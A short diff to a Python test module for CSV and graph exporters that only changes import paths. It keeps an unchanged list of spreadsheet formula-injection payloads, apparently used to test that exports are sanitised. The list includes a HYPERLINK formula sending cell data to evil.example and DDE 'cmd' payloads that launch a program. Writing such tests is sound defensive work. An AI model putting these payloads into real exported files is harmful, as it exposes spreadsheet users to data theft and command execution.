@@ -12,9 +12,9 @@ import re
 
 import pytest
 
-from crawl_assets.index.export_formats import csv_rows
-from crawl_assets.index.graph_formats import edge_csv
-from crawl_assets.index.networks import Graph
+from crawl_assets.query.export_formats import csv_rows
+from crawl_assets.query.graph_formats import edge_csv
+from crawl_assets.query.networks import Graph
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "a,=1+1;=2+2", 'say "=1"']
